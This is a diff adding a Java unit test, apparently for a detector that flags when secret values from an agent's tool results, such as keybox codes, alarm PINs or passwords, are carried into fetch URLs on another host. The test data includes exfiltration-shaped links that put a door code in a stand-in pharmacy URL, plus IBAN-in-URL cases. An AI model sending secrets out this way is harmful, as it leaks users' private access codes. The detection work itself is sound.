@@ -179,6 +179,32 @@ class CarriedTest {
 
   @ParameterizedTest
   @CsvSource({
+    "keybox, 9034, true",
+    "door_code, 9034, true",
+    "alarmPin, 9034, true",
+    "password, mill street, true",
+    "shelf, 9034, false",
+    "spin, 9034, false",
+    "keybox, 9035, false",
+  })
+  void traceWhenOneThingIsToldAsASecretThenThatIsTooMuch(
+      String name, String asked, boolean carried) {
+    memory.returned(
+        ToolClass.READ,
+        new ToolCall("https://fleet.example", "get_vehicle", JsonObject.EMPTY),
+        json(
+            "{\"content\":[],\"structuredContent\":{\"plate\":\"RV\",\""
+                + name
+                + "\":\""
+                + (asked.equals("9035") ? "9034" : asked)
+                + "\"}}"));
+    String link = "https://mill-pharmacy.example/q/" + asked.replace(' ', '/') + "/5";
+    assertThat(isCarried("https://other.example", "fetch", link))
+        .isEqualTo(carried && asked.startsWith("9"));
+  }
+
+  @ParameterizedTest
+  @CsvSource({
     "hours?iban=DE89370400440532013000, true",
     "v/40-271118/DE89370400440532013000/600, true",
     "hours?mail=bo@chat.example, false",
